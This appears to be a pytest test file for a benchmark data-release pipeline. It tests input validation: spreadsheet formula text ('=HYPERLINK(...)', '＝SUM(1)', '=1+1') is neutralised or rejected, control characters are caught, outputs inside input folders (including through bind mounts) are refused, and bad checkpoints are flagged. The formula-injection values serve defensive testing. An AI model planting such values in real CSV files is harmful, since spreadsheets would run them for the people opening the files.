    task.update(text=text, is_video=False, assignments=["w1", "w2"], shown_order=[1, 0])
    lines = task_lines("retrieve_tasks.csv", [task], RETRIEVE_TASK_COLUMNS)
    row = dict(zip(*csv.reader(io.StringIO("\n".join(lines) + "\n"))))
    jsonl = json.loads(task_lines("retrieve_tasks.jsonl", [task], RETRIEVE_TASK_COLUMNS)[0])
    return [row["text"], jsonl["text"], row["is_video"], row["assignments"]]


def _bd2bb_tuple(field: str, text: str):
    from pipelines.bd2bb.inputs import parse_tuple_line
    return parse_tuple_line(json.dumps({"image": "COCO_train2014_000000000001.jpg",
                                        "intention": "want to relax", "action": "sit on the bench",
                                        field: text}))


def _bd2bb_review_sheet(text: str) -> List[str]:
    import csv
    import io

    from pipelines.bd2bb.clustering import REVIEW_HEADER
    from transforms.io.csv_out import csv_text
    sheet = csv_text(REVIEW_HEADER, [[3, 12, "key", text, "label", "f00d"]])
    return list(csv.DictReader(io.StringIO(sheet)))[0]["action"]


def _csv_answer_row(cell: str):
    """What the crowd answer stage does with a CSV row whose description cell is `cell`
    (ImageCoDe's descriptions; every crowd round reads rows this way)."""
    from transforms.crowd.answer_files import AnswerRow
    from transforms.crowd.answer_rows import _CheckRowFn
    check = _CheckRowFn("describe", ("set_name", "text"), lambda row, context: ("k", row), lambda *_: {})
    row = AnswerRow("/in/descriptions.csv", 7, {"set_name": "s1", "text": cell, "worker": "w1"})
    return [(getattr(out, "value", out).reason, getattr(out, "value", out).detail)
            if hasattr(out, "tag") else "passed" for out in check.process(row)]


@pytest.mark.parametrize("formula", FORMULAS, ids=FORMULA_IDS)
@pytest.mark.parametrize("where", ["imagecode-retrieve-tasks-csv", "bd2bb-intention", "bd2bb-action",
                                   "bd2bb-review-sheet", "bd2bb-compat-csv"])
def test_text_a_spreadsheet_would_run_is_neutralised_or_rejected(where, formula):
    """Issue 35: a BD2BB intention `=HYPERLINK(...)` passed every filter into compat/*.csv;
    ImageCoDe descriptions beginning with `=`, `+` or `@` went verbatim into
    crowd/retrieve_tasks.csv, which requesters open in a spreadsheet. Issue 45: BD2BB
    published `＝SUM(1)` (fullwidth) and a zero-width space before `=`: text is judged
    after NFKC, behind format characters, in every CSV the release writes."""
    if where == "imagecode-retrieve-tasks-csv":   # the JSON Lines file keeps the text
        assert _retrieve_task_csv(formula) == ["'" + formula, formula, "false", '["w1", "w2"]']
        assert _retrieve_task_csv("A dog, left.")[0] == "A dog, left."   # other cells as they were
    elif where in ("bd2bb-intention", "bd2bb-action"):
        field = where.split("-")[1]
        problem = _bd2bb_tuple(field, "  " + formula)   # texts are stripped before publishing
        assert problem == (reasons.FORMULA_TEXT, _formula_detail(field, formula.strip())), problem
        kept = _bd2bb_tuple(field, "want to relax - and " + formula)   # only a text's start counts
        assert getattr(kept, field) == "want to relax - and " + formula.rstrip("\r"), kept
    elif where == "bd2bb-review-sheet":
        assert _bd2bb_review_sheet(formula) == "'" + formula
    else:   # a formula that reached compat/ would be a bug of the ingest: never written
        from pipelines.bd2bb.compat import HEADER, csv_text
        row = {c: "targ" if c.startswith("end") and c.endswith("type") else "text" for c in HEADER}
        assert csv_text([row]).splitlines()[1].startswith("text,")
        with pytest.raises(ValueError, match="its ingest must reject such text"):
            csv_text([{**row, "sent1": formula}])


@pytest.mark.parametrize("cell, passed", [("A dog\x00 on the left.", False), ("\x07A dog.", False),
                                          ("A dog\x9b on the left.", False), ("A dog\ton the left.", True),
                                          ("A dog,\non the left.", True), ("=1+1", True)])
def test_a_control_character_in_a_csv_answer_cell_is_a_reject_naming_the_column(cell, passed):
    """NUL went into crowd/retrieve_tasks.csv; a raw NUL is legal in a CSV cell. Tab and
    line breaks are text (quoted in CSV); a formula start is neutralised where written."""
    found = _csv_answer_row(cell)
    if passed:
        assert found == ["passed"], found
    else:
        code = {"\x00": "0000", "\x07": "0007", "\x9b": "009B"}[next(c for c in cell if c in "\x00\x07\x9b")]
        assert len(found) == 1 and found[0][0] == reasons.CONTROL_CHARACTER, found
        assert found[0][1].startswith(f"column 'text' holds the control character U+{code}"), found
        assert not any(c in found[0][1] for c in "\x00\x07\x9b")


# --- 5. the last hostile inputs of issue 35 -------------------------------------------------
#
# Each at the reader or preflight check that decides it (no Beam build): an output or
# cache folder inside an input folder, a VSR line whose image_link shows another picture,
# a symlink loop or an over-long name a line names, an FG image id that needs making
# safe, the line of a BD2BB tuple's later rejects, a checkpoint of random bytes, an
# answer cell over the CSV bound, a version with a leading zero. The whole-file cases
# (UTF-16 without a BOM, a symlink loop, a name too long) are in FILE_CASES above, a
# byte order mark in mid-file in VALUE_CASES, a trailing comma in DOCUMENT_CASES.

def _folder_inputs():
    """(benchmark, key, is_list) of every input a build reads as a whole folder: an
    ImageSource, or an InputPath (a model, release or image folder), but the cache."""
    for benchmark in BENCHMARKS:
        for key, kind, is_list in input_fields(registry.load(benchmark).config_type):
            if kind in (ImageSource, InputPath) and key != "cache.dir":
                yield benchmark, key, is_list


@contextlib.contextmanager
def _bind_mount(source, target):
    """`source` mounted again at `target` (a second name of the folder that no path
    resolution reveals); skips where this machine does not allow mounting."""
    os.makedirs(target)
    if subprocess.run(["mount", "--bind", str(source), str(target)], capture_output=True).returncode != 0:
        pytest.skip("this machine does not allow a bind mount")
    try:
        yield str(target)
    finally:
        subprocess.run(["umount", str(target)], check=True)


@pytest.mark.parametrize("written", ["--output", "cache.dir", "--output-through-a-symlink",
                                     "--output-through-a-bind-mount", "cache.dir-through-a-bind-mount"])
@pytest.mark.parametrize("benchmark, key, is_list", [pytest.param(*f, id=f"{f[0]}-{f[1]}")
                                                      for f in _folder_inputs()])
def test_an_output_or_cache_inside_an_input_folder_is_refused_before_any_work(benchmark, key, is_list,
                                                                               written, tmp_path):
    """Issue 35: an output folder inside FG's pool folder put the previous release's
    explorer thumbnails into the rebuild's pool (48 -> 57 images). Issue 45: the same
    folder reached through a bind mount was not caught (symlinks were): folders are now
    compared by (st_dev, st_ino). One check for every benchmark
    (pipelines/preflight.py check_outputs_outside_inputs)."""
    from pipelines import preflight
    from pipelines.config import load_config
    from transforms.core.errors import PreflightError
    folder = tmp_path / "in"
    folder.mkdir()
    _touch(str(folder), "a.png")
    entry = registry.entry(benchmark)
    sets = [f"{key}={f'[{folder}]' if is_list else folder}"]
    sets += [s for s in _companions(benchmark, key, str(tmp_path)) if s != "--set"]
    config = load_config(entry.config_path("paper"), sets, entry.config_type)
    beside, inside = str(tmp_path / "releases"), str(folder / "releases")
    with contextlib.ExitStack() as stack:
        if written.endswith("-through-a-symlink"):
            os.symlink(folder, tmp_path / "link")
            inside = str(tmp_path / "link" / "releases")
        elif written.endswith("-through-a-bind-mount"):
            inside = os.path.join(stack.enter_context(_bind_mount(folder, tmp_path / "mnt")), "releases")
        output, cache = (beside, inside) if written.startswith("cache.dir") else (inside, None)
        with pytest.raises(PreflightError) as error:
            preflight.check_outputs_outside_inputs(config, output, cache)
        assert str(error.value).startswith(f"{written.split('-through')[0]}: {inside} is inside {key} ({folder})")
        preflight.check_outputs_outside_inputs(config, beside, str(tmp_path / "cache"))   # beside: fine


def test_an_output_through_a_bind_mount_of_the_pool_is_refused_before_any_heavy_import(tmp_path):
    """Issue 45: an FG release written through a bind mount of the pool folder put its 49
    thumbnails into the pool (the next build kept 57 members instead of 48). The command
    a user runs stops in one line (exit 2) before Beam, torch or any model library is
    imported: the check is a few stat calls, made with the other preflight checks."""
    from tests.test_cli_imports import HEAVY, one_line, run
    (tmp_path / "in").mkdir()
    pool = tmp_path / "pool"
    pool.mkdir()
    _touch(str(pool), "p.png")
    with _bind_mount(pool, tmp_path / "mounted") as mounted:
        out = os.path.join(mounted, "releases")
        code, lines, imported, _ = run("fg", "build", "--config", "paper", "--set", f"inputs.pool={pool}",
                                       *_companions("fg", "inputs.pool", str(tmp_path / "in")),
                                       "--output", out, "--version", "1.0.0")
        assert one_line(code, lines) == (
            f"error: --output: {out} is inside inputs.pool ({pool}), which the build reads as a whole: "
            "a release or cache written there would be read back as input by the next build; write it "
            "outside every input folder")
        assert not imported & set(HEAVY), sorted(imported & set(HEAVY))
        assert os.listdir(pool) == ["p.png"]


@pytest.mark.parametrize("pattern, refused", [("**/*.jsonl", True), ("*/lines.jsonl", True),
                                              ("*.jsonl", False)])
def test_an_output_inside_the_folder_a_glob_reaches_is_refused(pattern, refused, tmp_path):
    """A glob reads what its wildcards reach: `*` in a file name stays in its folder,
    `**` or a wildcard in a folder's name reaches the release written below it."""
    from pipelines import preflight
    from pipelines.config import load_config
    from transforms.core.errors import PreflightError
    entry = registry.entry("vsr")
    config = load_config(entry.config_path("paper"), [f"inputs.annotations=[{tmp_path}/{pattern}]",
                                                      f"inputs.coco=[{_plain(str(tmp_path))}]"], entry.config_type)
    if refused:
        with pytest.raises(PreflightError, match=re.escape(f"is inside inputs.annotations ({tmp_path})")):
            preflight.check_outputs_outside_inputs(config, str(tmp_path / "releases"), None)
    else:
        preflight.check_outputs_outside_inputs(config, str(tmp_path / "releases"), None)


def test_fg_a_release_inside_the_pool_folder_stops_the_build_in_one_line(tmp_path, capsys):
    """The issue's case through the command line: exit 2, one line, nothing written."""
    (tmp_path / "in").mkdir()
    pool = tmp_path / "pool"
    pool.mkdir()
    _touch(str(pool), "p.png")
    out = pool / "releases"
    code = cli.run_main(lambda argv: build.build("fg", argv),
                        ["--config", "paper", "--set", f"inputs.pool={pool}",
                         *_companions("fg", "inputs.pool", str(tmp_path / "in")), "--output", str(out),
                         "--version", "1.0.0", "--quiet"])
    errors = [line for line in capsys.readouterr().err.splitlines() if line.startswith("error:")]
    assert code == 2 and errors == [f"error: --output: {out} is inside inputs.pool ({pool}), which the build "
                                    "reads as a whole: a release or cache written there would be read back "
                                    "as input by the next build; write it outside every input folder"], errors
    assert not out.exists()


def test_a_stray_nul_byte_in_utf8_text_is_left_to_the_line_readers(tmp_path):
    """Only the NUL pattern of UTF-16/32 refuses a whole file: one raw NUL in a line is
    that line's reject (bad_json, or control_character in a CSV cell), not the file's."""
    from pipelines import preflight
    path = tmp_path / "lines.jsonl"
    path.write_bytes(b'{"a": 1}\n{"a": "x\x00"}\n{"a": 2}\n')
    assert preflight.input_files("inputs.public", [str(path)]) == [str(path)]


def _vsr_raw(**fields) -> dict:
    return {"image": COCO_NAME, "image_link": COCO_LINK, "caption": "The cat is under the couch.",
            "label": 1, "relation": "under", "annotator_id": 3, "vote_true_validator_id": [1, 2],
            "vote_false_validator_id": [], **fields}


def _loop(folder: str) -> str:
    path = os.path.join(folder, "loop.png")
    os.symlink(path, path)
    return path


@pytest.mark.parametrize("inp, line, reason, says", [
    # published as it was: the example labelled on one picture and linked to another
    pytest.param(LINES_INPUTS[3], lambda d: _vsr_raw(image_link=COCO_LINK.replace("01.jpg", "02.jpg")),
                 reasons.BAD_FIELD, f"image_link '{COCO_LINK.replace('01.jpg', '02.jpg')}' names another "
                 f"file than image '{COCO_NAME}'", id="vsr-image-link-names-another-file"),
    *(pytest.param(i, lambda d, i=i: {**i.good(d), "path": _loop(d)}, reasons.NOT_A_FILE,
                   "loop.png is a symlink loop (too many levels of symbolic links)", id=f"{i.key}-symlink-loop")
      for i in LINES_INPUTS if i.key in ("inputs.videos", "static.images", "inputs.pool")),
    *(pytest.param(i, lambda d, i=i: {**i.good(d), "path": os.path.join(d, "n" * 300 + ".png")},
                   reasons.BAD_FIELD, "is a name the file system cannot hold: its longest part has 304 bytes",
                   id=f"{i.key}-name-too-long")
      for i in LINES_INPUTS if i.key in ("inputs.videos", "static.images", "inputs.pool")),
])
def test_a_line_that_names_the_wrong_or_an_unreachable_file_is_a_reject_saying_so(inp, line, reason, says,
                                                                                 tmp_path):
    """Issue 35: a symlink loop and an over-long name were `path_not_found` 'no such
    file' (transforms/io/paths.py unreachable, used by every manifest reader)."""
    good = inp.good(str(tmp_path))
    path = tmp_path / "input.jsonl"
    path.write_bytes(_dumps(good) + b"\n" + _dumps(line(str(tmp_path))) + b"\n")
    passed, rejected = _read(inp, str(path))
    assert len(passed) == 1 and len(rejected) == 1, rejected
    assert rejected[0][:3] == (str(path), 2, reason) and says in rejected[0][3], rejected


def test_an_fg_image_whose_name_is_made_safe_meets_its_captions(tmp_path):
    """Issue 35: `café 101.jpg` (id `caf__101-<hash>`) and its captions key `café 101`
    never met: no_image and no_captions, both false. Captions are keyed as images are."""
    import numpy as np
    from apache_beam.io.filesystem import FileMetadata

    from pipelines.fg.captions import read_captions
    from pipelines.fg.inputs import JoinTargets
    from schemas.records import ImageEmbedding
    from transforms.image.collection import _NameFile
    captions = tmp_path / "captions.json"
    captions.write_text(json.dumps({"café 101": _FIVE}), encoding="utf-8")
    image = _touch(str(tmp_path), "café 101.jpg")
    ref = next(iter(_NameFile().process(FileMetadata(image, 5))))
    keyed = read_captions(str(captions))
    assert list(keyed) == [ref.image_id] and ref.image_id.startswith("caf__101-")
    embedded = ImageEmbedding(ref.image_id, image, "sha", np.ones(2, np.float32), "pixels")
    out = list(JoinTargets().process((ref.image_id, {"captions": [keyed[ref.image_id]], "image": [embedded]})))
    assert [getattr(o, "image_id", None) for o in out] == [ref.image_id], out   # a target, no reject
    # the detail, merged and correction lines about its captions are keyed the same way
    from pipelines.fg.records import parse_caption_line
    from transforms.io.lines import SourceLine
    for fields in (("image_id", "prompt", "detail"), ("image_id", "prompt", "merged"),
                   ("image_id", "model_text", "human_text")):
        for named, expected in (("café 101", ref.image_id), (ref.image_id, ref.image_id),
                                ("COCO_val2014_000000000001", "COCO_val2014_000000000001")):
            line = SourceLine("lines.jsonl", 1, json.dumps({"image_id": named, "caption_index": 0,
                                                            **{f: "a dog" for f in fields[1:]}}))
            assert parse_caption_line(line, fields)["image_id"] == expected
    too_long = SourceLine("lines.jsonl", 1, json.dumps({"image_id": "x" * 300, "caption_index": 0,
                                                        "prompt": "a", "detail": "b"}))
    assert parse_caption_line(too_long, ("image_id", "prompt", "detail"))[0] == reasons.BAD_FIELD


@pytest.mark.parametrize("parses, reason", [([], "no_parse"), (["bad"], "bad_parse")])
def test_a_bd2bb_tuple_rejected_after_reading_names_its_line(parses, reason, tmp_path):
    """Issue 35: BD2BB's no_parse rejects named line 0; a tuple keeps its file and line
    (BD2BBTuple.place) for the rejects of every later stage."""
    from pipelines.bd2bb.action_parses import BadSentence, _Attach
    from pipelines.bd2bb.inputs import _ParseLine
    from transforms.io.lines import SourceLine
    line = SourceLine(str(tmp_path / "tuples.jsonl"), 7, json.dumps(
        {"image": "COCO_train2014_000000000001.jpg", "intention": "want to relax", "action": "sit on the bench"}))
    (read,) = list(_ParseLine().process(line))
    groups = {"tuples": [read], "parses": [BadSentence("actions.conllu:3", "5 columns")] if parses else []}
    (out,) = [getattr(o, "value", o) for o in _Attach().process((read.action_key, groups))]
    assert (out.reason, out.file, out.line) == (reason, line.path, 7)


def test_a_checkpoint_of_random_bytes_is_one_line_before_any_work(tmp_path):
    """Issue 35: it failed late, on a worker, inside Beam's traceback. The first bytes
    are checked where the checkpoint is resolved (on the driver, for the manifest)."""
    from transforms.image.weights import EncoderError, resolve_checkpoint
    path = tmp_path / "ViT-B-16.pt"
    path.write_bytes(bytes(range(7, 256)) * 4)
    with pytest.raises(EncoderError, match=re.escape(f"embed.checkpoint: {path} is not a weights file: "
                                                     "it starts with bytes 07 08 09")):
        resolve_checkpoint(str(path))
    path.write_bytes(b"PK\x03\x04" + b"\x00" * 60)   # a zip archive, as torch.save writes
    assert resolve_checkpoint(str(path)) == str(path)


def test_nlvr2s_local_similar_checkpoint_is_checked_on_the_driver_under_its_own_key(tmp_path):
    """Issue 35: NLVR2's local similar-images checkpoint was resolved only on workers; the
    manifest's model record now resolves it in `prepare`, and the error names NLVR2's key."""
    from pipelines.nlvr2.collection.collect import model_identities
    from pipelines.nlvr2.collection.config import CollectionConfig
    from transforms.image.weights import EncoderError
    path = tmp_path / "ViT-B-16.pt"
    path.write_bytes(bytes(range(7, 256)) * 4)
    config = CollectionConfig()
    config.search.local_similar.collection = str(tmp_path)
    config.search.local_similar.checkpoint = str(path)
    with pytest.raises(EncoderError, match=re.escape(
            f"collection.search.local_similar.checkpoint: {path} is not a weights file")):
        model_identities(config)


@pytest.mark.parametrize("fmt, chars, reason, says", [
    ("csv", 16_385, reasons.TOO_LONG, "column 'text' holds 16,385 characters, more than the 16,384 a text may hold"),
    ("jsonl", 16_385, reasons.TOO_LONG, "field 'text' holds 16,385 characters, more than the 16,384 a text may hold"),
    ("csv", 131_073, reasons.BAD_FIELD, "a cell of more than 131,072 characters"),
    ("jsonl", 131_073, reasons.TOO_LONG, "field 'text' holds 131,073 characters"),
])
def test_an_answer_cell_over_the_bound_is_a_reject_naming_its_line(fmt, chars, reason, says, tmp_path):
    """Issue 35: a cell over 131,072 characters hit Python's csv limit, undocumented
    (`malformed_row` 'not CSV'). Issue 45: every free text, a cell of either format too,
    is held to free_text.MAX_TEXT_CHARS (too_long); a CSV cell longer than the csv
    module reads is bad_field."""
    from transforms.crowd.answer_files import AnswerRow, parse_file
    from transforms.crowd.answer_rows import _CheckRowFn
    long = "a" * chars
    path = tmp_path / f"descriptions.{fmt}"
    if fmt == "csv":
        path.write_text(f"set_name,text,worker\ns1,ok,w1\ns2,{long},w2\n")
    else:
        path.write_text("".join(json.dumps({"set_name": s, "text": t, "worker": "w"}) + "\n"
                                for s, t in (("s1", "ok"), ("s2", long))))
    with open(path, "rb") as stream:
        rows = list(parse_file(str(path), stream, fmt))
    check = _CheckRowFn("describe", ("set_name", "text"), lambda row, context: ("k", row), lambda *_: {})
    found = [(getattr(o, "value", o).line, getattr(o, "value", o).reason, getattr(o, "value", o).detail)
             for row in rows if isinstance(row, AnswerRow)
             for o in check.process(row) if getattr(o, "tag", None) == REJECTS]
    assert len(found) == 1 and found[0][:2] == (2 if fmt == "jsonl" else 3, reason), found
    assert says in found[0][2], found


@pytest.mark.parametrize("version", ["01.0.0", "1.0.0+build.5", "1.0.\u0663"])
def test_a_version_outside_the_rule_is_one_line_before_any_work(version, tmp_path, capsys):
    """Issue 35: `01.0.0` was a version of its own (semver: no leading zeros), a `+build`
    or a non-ASCII digit a traceback after the run (pipelines/cli.py check_version)."""
    code = cli.run_main(lambda argv: build.build("vsr", argv),
                        ["--config", "paper", "--output", str(tmp_path / "out"), "--version", version])
    errors = [line for line in capsys.readouterr().err.splitlines() if line.startswith("error:")]
    assert code == 2 and len(errors) == 1 and errors[0].startswith("error: --version: "), errors
    assert not (tmp_path / "out").exists()
